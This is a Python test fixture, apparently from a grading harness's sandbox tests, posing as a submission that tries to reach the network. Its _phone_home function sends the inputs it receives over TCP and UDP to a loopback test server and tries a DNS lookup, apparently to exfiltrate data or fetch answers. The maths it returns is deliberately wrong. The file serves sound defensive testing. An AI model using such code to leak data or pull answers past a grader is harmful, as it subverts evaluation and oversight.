"""Attack: reach the network (exfiltrate inputs, fetch answers).

Connects over TCP to a server on 127.0.0.1 (the test that grades it writes the server's port into
``PORT``), also tries IPv6 loopback, UDP, and a DNS lookup, sending the inputs it was given and
hoping for the answer back. The test asserts the server never saw a connection. The maths is
wrong: zeros (or whatever the server answers, which would then be reported as a leak).
"""

import socket

import torch

PORT = 47123  # replaced by the test with its server's port


def _phone_home(payload: bytes) -> str:
    results = []
    for family, addr in ((socket.AF_INET, ("127.0.0.1", PORT)), (socket.AF_INET6, ("::1", PORT))):
        try:
            with socket.socket(family, socket.SOCK_STREAM) as s:
                s.settimeout(2)
                s.connect(addr)
                s.sendall(payload)
                results.append(f"tcp {addr} CONNECTED {s.recv(100)!r}")
        except OSError as exc:
            results.append(f"tcp {addr} refused: {exc}")
    try:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
            s.sendto(payload, ("127.0.0.1", PORT))
            results.append("udp sent")
    except OSError as exc:
        results.append(f"udp refused: {exc}")
    try:
        results.append(f"dns {socket.gethostbyname('example.com')}")
    except OSError as exc:
        results.append(f"dns refused: {exc}")
    return "; ".join(results)


print(f"network: {_phone_home(b'import')}")


def scale(x, s):
    print(f"network: {_phone_home(repr((x.tolist(), s)).encode())}")
    return torch.zeros_like(x)


def total(x):
    print(f"network: {_phone_home(repr(x.tolist()).encode())}")
    return torch.zeros((), requires_grad=True)
